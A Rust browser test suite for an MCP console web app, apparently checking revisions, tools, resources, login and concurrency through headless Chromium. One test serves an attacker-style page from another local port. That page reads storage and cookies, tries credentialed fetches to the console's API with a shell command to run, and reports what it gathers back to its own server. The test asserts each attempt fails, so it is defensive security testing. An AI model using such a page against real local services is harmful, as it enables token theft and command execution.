//! `mcp console` in a real browser: a headless Chromium driven through chromedriver against the
//! demo server. Screenshots of each step go to `<target>/tmp/console-screenshots/`.
//!
//! Chromium and chromedriver come from Debian (`apt-get install chromium chromium-driver`, as
//! `.ci/run` does). Without them the test fails under `CI=true` and is skipped with a message
//! otherwise.

use crate::support;

use std::io::Write;
use std::path::PathBuf;

use serde_json::{Value, json};
use support::Demo;
use support::console::Console;
use support::webdriver::Browser;

const REVISIONS: [&str; 5] = [
    "2026-07-28",
    "2025-11-25",
    "2025-06-18",
    "2025-03-26",
    "2024-11-05",
];

fn browser() -> Option<Browser> {
    let shots = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("console-screenshots");
    match Browser::start(&shots) {
        Ok(browser) => {
            let _ = writeln!(
                std::io::stderr(),
                "console screenshots: {}",
                shots.display()
            );
            Some(browser)
        }
        Err(reason) if std::env::var("CI").as_deref() == Ok("true") => {
            panic!("CI=true and no browser for the console tests: {reason}")
        }
        Err(reason) => {
            // Straight to the process's stderr: the test harness does not capture it, so the
            // skip is visible in a plain `cargo test`.
            let _ = writeln!(
                std::io::stderr(),
                "SKIPPED: the console's browser test needs chromium and chromedriver ({reason}); apt-get install chromium chromium-driver"
            );
            None
        }
    }
}

#[test]
fn the_console_in_a_browser() {
    let Some(b) = browser() else { return };
    let demo = Demo::start();
    // Tokens of the login step below go to a file of the test's own.
    let tokens = support::scratch("console-tokens")
        .with_extension("json")
        .display()
        .to_string();
    let console = Console::start(&[&demo.mcp(), "--token-file", &tokens]);

    // The token URL (the token in its fragment); the page connects to the URL given on the
    // command line. No cookie is set (issue 44, finding 1), and the token leaves the address bar.
    b.go(&console.url);
    b.wait_text("#server-revision", "2026-07-28");
    b.wait_text("#server-name", "Demo server");
    b.screenshot("01-connected");
    assert_eq!(b.cookies(), json!([]), "the console set a cookie");
    let shown = b.script("return location.href;", json!([]));
    assert!(!shown.as_str().unwrap().contains(&console.token), "{shown}");

    // Connect on each revision, pinned.
    for revision in REVISIONS {
        b.script(
            "document.getElementById('revision').value = arguments[0];",
            json!([revision]),
        );
        b.click("#connect");
        b.wait_text("#server-revision", &format!("{revision} (pinned)"));
        b.wait_text("#connections", revision);
        b.screenshot(&format!("02-connected-{revision}"));
    }

    // Back to the first connection (negotiated: 2026-07-28). Tools: a validation message, then
    // add, whose structured output is shown beside its output schema.
    b.click("#connections .conn:first-child button");
    b.wait_text("#server-revision", "2026-07-28 (negotiated)");
    b.click("#tab-tools");
    b.click("#tool-add");
    b.click("#call");
    b.wait_text("#tool-result", "required");
    let numbers = b.find_all("#tool-form input[type=number]");
    assert_eq!(numbers.len(), 2, "add has two integer fields");
    b.fill_element(&numbers[0], "2");
    b.fill_element(&numbers[1], "3");
    b.click("#call");
    b.wait_text("#tool-result .structured", "5");
    b.screenshot("03-add");

    // deploy asks: the dialog answers it.
    b.click("#tool-deploy");
    b.fill("#tool-form input[type=text]", "web");
    b.click("#call");
    b.wait_text("#ask-message", "Deploy web?");
    b.screenshot("04-deploy-question");
    b.click("#ask-accept");
    b.wait_text("#tool-result", "deployed web");
    b.screenshot("05-deploy-done");

    // count reports progress and log lines.
    b.click("#tool-count");
    b.fill("#tool-form input[type=number]", "5");
    b.click("#call");
    b.wait_text("#tool-progress", "5 / 5");
    b.wait_text("#tool-result", "counted to 5");
    b.screenshot("06-count-progress");
    b.click("#tab-logs");
    b.wait_text("#log-rows", "counted 5");
    b.screenshot("07-logs");

    // Read res://items/7.
    b.click("#tab-resources");
    b.fill("#read-uri", "res://items/7");
    b.click("#read");
    b.wait_text("#resource-result", "item 7");
    b.screenshot("08-read-item-7");

    // Subscribe to config://app, then `touch` marks it updated.
    b.fill("#read-uri", "config://app");
    b.click("#read");
    b.wait_text("#resource-result h3", "config://app");
    b.click("#subscribe");
    b.wait_text("#status", "listening to config://app");
    b.click("#tab-tools");
    b.click("#tool-touch");
    let detail = b.wait_text("#tool-detail", "nothing to fill in");
    assert!(
        !detail.contains("null"),
        "an optional part printed as null: {detail}"
    );
    b.click("#call");
    b.wait_text("#tool-result", "config://app");
    b.click("#tab-resources");
    b.wait_text("#resource-updated", "updated at");
    b.screenshot("08-resource-updated");

    // The protocol view shows the messages and filters them.
    b.click("#tab-protocol");
    b.fill("#proto-filter", "resources/read");
    b.wait_text("#proto-rows", "resources/read");
    b.screenshot("09-protocol");
    // Each request starts a trace, shown beside it and beside its answer: filtering by the
    // trace id finds exactly the two.
    let trace = b.wait_for(
        "const cell = [...document.querySelectorAll('#proto-rows td.trace')].find((t) => t.title);
         return cell ? cell.title : null;",
        json!(null),
    );
    let trace = trace
        .as_str()
        .unwrap()
        .strip_prefix("trace ")
        .unwrap()
        .to_owned();
    assert!(
        trace.len() == 32 && trace.bytes().all(|b| b.is_ascii_hexdigit()),
        "{trace}"
    );
    b.fill("#proto-filter", &trace);
    let rows = b.wait_for(
        "const rows = [...document.querySelectorAll('#proto-rows tr')];
         return rows.length === 2 ? rows.map((r) => r.textContent) : null;",
        json!(null),
    );
    let rows: Vec<&str> = rows
        .as_array()
        .unwrap()
        .iter()
        .filter_map(Value::as_str)
        .collect();
    assert!(
        rows[0].contains("received") && rows[1].contains("sent"),
        "{rows:?}"
    );
    assert!(rows.iter().all(|r| r.contains(&trace[..8])), "{rows:?}");
    // And the head of every HTTP response: status and headers.
    b.fill("#proto-filter", "HTTP 200 (POST");
    b.wait_text("#proto-rows", "HTTP 200 (POST http://127.0.0.1:");
    b.wait_text("#proto-rows", "content-type: application/json");
    b.screenshot("09-protocol-http");
    b.fill("#proto-filter", "");

    // The revision lens: add's output schema and title are not offered on 2025-03-26 (they came
    // with 2025-06-18).
    b.click("#tab-lens");
    b.click("#lens-open");
    b.wait_text("#lens-table", "2024-11-05");
    b.click("#lens-tool-add");
    b.wait_text(
        "#lens-schemas [data-revision='2025-03-26']",
        "not offered on this revision",
    );
    b.wait_text("#lens-schemas [data-revision='2025-03-26']", "title: Add");
    b.screenshot("10-lens");
    b.script(
        "document.getElementById('lens-detail').scrollIntoView();",
        json!([]),
    );
    b.screenshot("10-lens-diff");
    let fields = b.find_all("#lens-detail form input[type=number]");
    b.fill_element(&fields[0], "20");
    b.fill_element(&fields[1], "22");
    b.click("#lens-replay-call");
    for revision in REVISIONS {
        b.wait_text(&format!("#lens-replay [data-revision='{revision}']"), "42");
    }
    b.screenshot("11-lens-replay");
    // The greet prompt's title is not offered before 2025-06-18 either.
    b.click("#lens-table tr[data-name='greet'] button");
    b.wait_text(
        "#lens-schemas [data-revision='2025-03-26']",
        "- /title: \"Greeting\"",
    );
    b.wait_text(
        "#lens-schemas [data-revision='2025-06-18']",
        "same as declared",
    );

    // The greet prompt's form offers the server's completions as the user types (issue 47):
    // the suggestions fill the field, and the prompt is got with the chosen value.
    b.click("#tab-prompts");
    b.click("#prompt-greet");
    b.fill("#prompt-form input", "Al");
    b.wait_text("#prompt-form .suggestions", "Albert");
    assert_eq!(b.find_all("#prompt-form .suggestion").len(), 2);
    b.screenshot("12-prompt-completion");
    b.click("#prompt-form .suggestion");
    b.click("#get-prompt");
    b.wait_text("#prompt-result", "Please greet Alice warmly.");

    // Dark, and a narrow window.
    b.color_scheme("dark");
    b.click("#tab-tools");
    b.screenshot("12-dark");
    b.resize(480, 800);
    b.screenshot("13-narrow");
    b.resize(1280, 800);
    b.color_scheme("light");

    // A server that runs tools as tasks (the conformance target's fixtures): one followed to
    // its result, one cancelled from the page.
    let target = support::Target::start();
    b.fill("#url", &target.url);
    b.script(
        "document.getElementById('revision').value = 'auto';",
        json!([]),
    );
    b.click("#connect");
    b.wait_text("#server-info", &target.url);
    b.wait_text("#server-revision", "2026-07-28 (negotiated)");
    b.click("#tab-tools");
    b.click("#tool-slow_compute");
    let numbers = b.find_all("#tool-form input[type=number]");
    b.fill_element(&numbers[0], "0.3");
    b.click("#call");
    b.wait_text("#tool-result", "computed");
    b.fill_element(&b.find_all("#tool-form input[type=number]")[0], "120");
    b.click("#call");
    b.wait_text("#tool-progress", ": working");
    b.screenshot("14-task-working");
    b.click("#task-cancel");
    b.wait_text("#tool-result", "cancelled");
    b.screenshot("15-task-cancelled");

    // A protected server: the console shows the login link, the browser goes through the
    // development authorization server (auto-approving) and back to the loopback redirect
    // URI, and the connection goes on with the token.
    let protected = Demo::start_with(&["--auth", "--auth-auto-approve"]);
    b.fill("#url", &protected.mcp());
    b.script(
        "document.getElementById('revision').value = 'auto';",
        json!([]),
    );
    b.click("#connect");
    b.wait_text("#login", "The server asks you to log in.");
    b.screenshot("16-login-asked");
    b.click("#authorize-link");
    b.wait_text("#server-info", &protected.mcp());
    b.wait_text("#server-revision", "2026-07-28 (negotiated)");
    b.script(
        "return document.getElementById('login').classList.contains('hidden') || (() => { throw new Error('the login banner is still shown'); })();",
        json!([]),
    );
    b.click("#tab-tools");
    b.click("#tool-add");
    let numbers = b.find_all("#tool-form input[type=number]");
    b.fill_element(&numbers[0], "20");
    b.fill_element(&numbers[1], "22");
    b.click("#call");
    b.wait_text("#tool-result .structured", "42");
    b.screenshot("17-logged-in");
    let kept = std::fs::read_to_string(&tokens).expect("the console kept the tokens");
    assert!(kept.contains(&protected.mcp()), "{kept}");
}

/// A page of another server on 127.0.0.1 (another port: the same site as the console, as the
/// development authorization server or any local dev server is): what it serves, and every
/// request it receives (`Cookie` headers and the page's report).
struct OtherServer {
    addr: String,
    seen: std::sync::mpsc::Receiver<(String, String)>,
}

impl OtherServer {
    /// Serves `page` at `/`; every request's `Cookie` header and body go to `seen`.
    fn start(page: String) -> Self {
        use std::io::{BufRead, BufReader, Read};
        let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
        let addr = listener.local_addr().unwrap().to_string();
        let (tx, seen) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                let mut reader = BufReader::new(stream.try_clone().unwrap());
                let mut line = String::new();
                if reader.read_line(&mut line).is_err() {
                    continue;
                }
                let mut cookie = String::new();
                let mut length = 0;
                loop {
                    let mut header = String::new();
                    if reader.read_line(&mut header).unwrap_or(0) == 0 || header.trim().is_empty() {
                        break;
                    }
                    if let Some((k, v)) = header.split_once(':') {
                        if k.eq_ignore_ascii_case("cookie") {
                            cookie.push_str(v.trim());
                        }
                        if k.eq_ignore_ascii_case("content-length") {
                            length = v.trim().parse().unwrap_or(0);
                        }
                    }
                }
                let mut body = vec![0; length];
                let _ = reader.read_exact(&mut body);
                let path = line.split(' ').nth(1).unwrap_or("").to_owned();
                let body = String::from_utf8_lossy(&body).into_owned();
                let _ = tx.send((format!("{path} cookie={cookie}"), body));
                let content = if path == "/" { page.as_str() } else { "" };
                let _ = stream.write_all(
                    format!(
                        "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{content}",
                        content.len()
                    )
                    .as_bytes(),
                );
            }
        });
        Self { addr, seen }
    }
}

/// Issue 44, finding 1: a page of another server on 127.0.0.1 cannot obtain the console's
/// token (no cookie reaches it, its storage is its own, its fetches are refused) and cannot
/// drive `/api/connect`, even with the console letting the page run any command
/// (`--allow-any-stdio`, so that only the token stands in the way).
#[test]
fn a_page_on_another_local_port_gets_neither_the_token_nor_the_console() {
    let Some(b) = browser() else { return };
    let console = Console::start(&["--allow-any-stdio"]);
    let marker = support::scratch("console-browser-attack").with_extension("ran");
    let _ = std::fs::remove_file(&marker);

    // The user opens the console: the token comes in the fragment, the page keeps it.
    b.go(&console.url);
    b.wait_for(
        "return document.getElementById('connect') && location.hash === '' ? location.href : null;",
        json!(null),
    );
    let kept = b.script(
        "return sessionStorage.getItem('mcp-console-token');",
        json!([]),
    );
    assert_eq!(kept, json!(console.token), "the page keeps its token");
    assert_eq!(
        b.cookies(),
        json!([]),
        "the console set a cookie in the browser"
    );

    let target = format!("http://{}", console.addr);
    let command = format!("sh -c 'touch {}'", marker.display());
    let attack = format!(
        r#"<!doctype html><html><body><script>
(async () => {{
  const console_ = {target:?}, command = {command:?}, report = {{}};
  report.cookie = document.cookie;
  report.session = JSON.stringify(Object.entries(sessionStorage));
  report.local = JSON.stringify(Object.entries(localStorage));
  const attempt = async (name, url, init) => {{
    try {{ const r = await fetch(url, init); report[name] = `${{r.type}} ${{r.status}} ${{await r.text()}}`; }}
    catch (e) {{ report[name] = `refused: ${{e}}`; }}
  }};
  await attempt("page", console_ + "/", {{ credentials: "include" }});
  await attempt("connections", console_ + "/api/connections", {{ credentials: "include" }});
  await attempt("connect_form", console_ + "/api/connect", {{ method: "POST", mode: "no-cors", credentials: "include",
    headers: {{ "Content-Type": "text/plain" }}, body: JSON.stringify({{ stdio: command }}) }});
  await attempt("connect_json", console_ + "/api/connect", {{ method: "POST", credentials: "include",
    headers: {{ "Content-Type": "application/json" }}, body: JSON.stringify({{ stdio: command }}) }});
  await attempt("stream", console_ + "/api/stream?after=0", {{ mode: "no-cors", credentials: "include" }});
  // What a page of this origin sends back to its own server (cookies of 127.0.0.1 go along).
  await fetch("/report", {{ method: "POST", body: JSON.stringify(report) }});
}})();
</script></body></html>"#
    );
    let other = OtherServer::start(attack);
    // The user follows a link to another local server in the same tab.
    b.go(&format!("http://{}/", other.addr));
    let mut report = None;
    let mut requests = Vec::new();
    while report.is_none() {
        let (what, body) = other
            .seen
            .recv_timeout(std::time::Duration::from_secs(30))
            .expect("the other page reports");
        if what.starts_with("/report") {
            report = Some(serde_json::from_str::<Value>(&body).unwrap());
        }
        requests.push(what);
    }
    let report = report.unwrap();
    for request in &requests {
        assert!(
            !request.contains(&console.token),
            "the token reached another server: {request}"
        );
    }
    let text = report.to_string();
    assert!(
        !text.contains(&console.token),
        "the other page read the token: {report}"
    );
    // Its requests to the console: no answer it can read, nothing done.
    assert!(
        report["connections"]
            .as_str()
            .unwrap()
            .starts_with("refused"),
        "{report}"
    );
    assert!(
        report["connect_json"]
            .as_str()
            .unwrap()
            .starts_with("refused"),
        "{report}"
    );
    assert!(!marker.exists(), "the other page ran a command");
    let state = console.get("/api/connections").json();
    assert_eq!(state["connections"], json!([]), "{state}");
    let events = console.events(0);
    assert!(
        !events.to_string().contains("connecting"),
        "the other page started a connection: {events}"
    );
}

/// Issue 44 ("the console stalls when five calls wait at once"): the page carries its API over
/// one event stream, so eight calls waiting for an answer (more than the browser's six
/// connections per host) do not keep the answers from going out: each question is answered
/// and every call ends, within a bound far below the old 20 s long-poll stall.
#[test]
fn many_waiting_calls_do_not_block_the_answers() {
    let Some(b) = browser() else { return };
    let demo = Demo::start();
    let console = Console::start(&[&demo.mcp()]);
    b.go(&console.url);
    b.wait_text("#server-revision", "2026-07-28");
    const CALLS: usize = 8;
    // Eight deploy calls from the page at once: each waits for its question's answer.
    b.script(
        "window.results = [];
         const conn = S.current;
         for (let i = 0; i < arguments[0]; i++)
           api('/api/call', { conn, name: 'deploy', arguments: { service: `s${i}` } })
             .then((r) => window.results.push(r.content[0].text), (e) => window.results.push(`failed: ${e.message}`));",
        json!([CALLS]),
    );
    let started = std::time::Instant::now();
    let mut answered = Vec::new();
    for _ in 0..CALLS {
        let service = b.wait_for(
            "const d = document.getElementById('ask'), m = document.getElementById('ask-message');
             if (!d.open || !m) return null;
             const found = /Deploy (s\\d+)\\?/.exec(m.textContent);
             return found && !args.includes(found[1]) ? found[1] : null;",
            json!(answered),
        );
        answered.push(service.as_str().unwrap().to_owned());
        b.click("#ask-accept");
    }
    let results = b.wait_for(
        "return window.results.length === args ? window.results : null;",
        json!(CALLS),
    );
    let elapsed = started.elapsed();
    let mut results: Vec<String> = results
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r.as_str().unwrap().to_owned())
        .collect();
    results.sort();
    let mut expected: Vec<String> = (0..CALLS).map(|i| format!("deployed s{i}")).collect();
    expected.sort();
    assert_eq!(results, expected);
    assert!(
        elapsed < std::time::Duration::from_secs(15),
        "answering {CALLS} waiting calls took {elapsed:?}"
    );
    b.screenshot("20-many-waiting-calls");
}

/// Issue 44, the stall as its report had it: the revision lens replays `deploy` on every
/// revision at once (five calls, each waiting for its question on the revisions that can ask),
/// while three more deploy calls wait on the current connection: more waiting calls than the
/// browser's six connections per host. Every question is answered from the dialog and every
/// revision's card ends with the call's result.
#[test]
fn the_lens_replay_of_deploy_on_every_revision_does_not_block_the_answers() {
    let Some(b) = browser() else { return };
    let demo = Demo::start();
    let console = Console::start(&[&demo.mcp()]);
    b.go(&console.url);
    b.wait_text("#server-revision", "2026-07-28");
    b.click("#tab-lens");
    b.click("#lens-open");
    b.wait_text("#lens-table", "2024-11-05");
    b.click("#lens-tool-deploy");
    let fields = b.find_all("#lens-detail form input[type=text], #lens-detail form textarea");
    assert!(!fields.is_empty(), "the replay form has the service field");
    b.fill_element(&fields[0], "lens");
    // The replay first (the questions' dialog would cover its button), then three more.
    b.click("#lens-replay-call");
    const EXTRA: usize = 3;
    b.script(
        "window.results = [];
         const conn = [...S.conns.values()].find((s) => !s.lens).conn;
         for (let i = 0; i < arguments[0]; i++)
           api('/api/call', { conn, name: 'deploy', arguments: { service: `x${i}` } })
             .then((r) => window.results.push(r.content[0].text), (e) => window.results.push(`failed: ${e.message}`));",
        json!([EXTRA]),
    );
    let started = std::time::Instant::now();
    let mut answered: Vec<Value> = Vec::new();
    loop {
        assert!(answered.len() <= 5 + EXTRA, "more questions than calls");
        let next = b.wait_for(
            "const cards = [...document.querySelectorAll('#lens-replay [data-revision]')];
             const finished = cards.length === 5 && cards.every((c) => !c.textContent.includes('calling…'))
               && window.results.length === args[1];
             if (finished) return 'done';
             const d = document.getElementById('ask');
             if (d.open && S.asking && !args[0].includes(S.asking.ask)) return S.asking.ask;
             return null;",
            json!([answered, EXTRA]),
        );
        if next == json!("done") {
            break;
        }
        answered.push(next);
        b.click("#ask-accept");
    }
    let elapsed = started.elapsed();
    // Every revision's call asked, was answered from the dialog, and deployed.
    assert_eq!(answered.len(), REVISIONS.len() + EXTRA, "{answered:?}");
    for revision in REVISIONS {
        b.wait_text(
            &format!("#lens-replay [data-revision='{revision}']"),
            "deployed lens",
        );
    }
    let mut results: Vec<String> = b
        .script("return window.results;", json!([]))
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r.as_str().unwrap().to_owned())
        .collect();
    results.sort();
    assert_eq!(results, ["deployed x0", "deployed x1", "deployed x2"]);
    assert!(
        elapsed < std::time::Duration::from_secs(15),
        "answering the replay's questions took {elapsed:?}"
    );
    b.screenshot("21-lens-replay-deploy");
}
